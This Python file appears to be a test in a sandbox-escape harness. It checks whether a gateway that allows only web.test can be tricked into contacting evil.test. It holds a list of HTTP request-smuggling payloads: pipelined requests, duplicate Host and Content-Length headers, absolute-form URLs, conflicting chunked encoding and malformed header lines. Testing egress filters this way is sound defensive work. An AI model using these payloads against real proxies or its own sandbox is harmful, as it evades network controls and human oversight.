"""Asks an allowed host for another one over plain HTTP: in the second request, twice, in absolute
form, smuggled in a body.

layer: gateway
control: at home, without the sandbox, the server is asked for that host
"""
from harness import world

NEEDS = ["root"]


def scene(s):
    world.scene(s, ["web.test:80", {"host": "web.test", "ports": [8080], "mode": "http"}])


def escaped(s, _):
    return any(line.startswith("http evil") for line in s.world.log())


def attack(a):
    good, bad = (b"GET / HTTP/1.1\r\nHost: web.test\r\n\r\n",
                 b"GET /x HTTP/1.1\r\nHost: evil.test\r\n\r\n")
    post = b"POST / HTTP/1.1\r\nHost: web.test\r\n"
    tricks = [bad, good + bad, b"GET / HTTP/1.1\r\nHost: evil.test\r\nHost: web.test\r\n\r\n",
              b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
              post + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + bad,
              post + b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + bad,
              post + b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(bad) + bad,
              post + b"Content-Length : 0\r\n\r\n" + bad,
              post + b"X: y\r\n Content-Length: 0\r\n\r\n" + bad,
              good.replace(b"\r\n", b"\n") + bad, post + b"Transfer-Encoding: xchunked\r\n\r\n"
              + bad]
    for port in (80, 8080):
        for trick in tricks:
            def call():
                s = socket.create_connection(("web.test", port), timeout=3)
                s.sendall(trick)
                s.shutdown(socket.SHUT_WR)
                got = b""
                while data := s.recv(4096):
                    got += data
                print(got[:200])
            attempt(call)
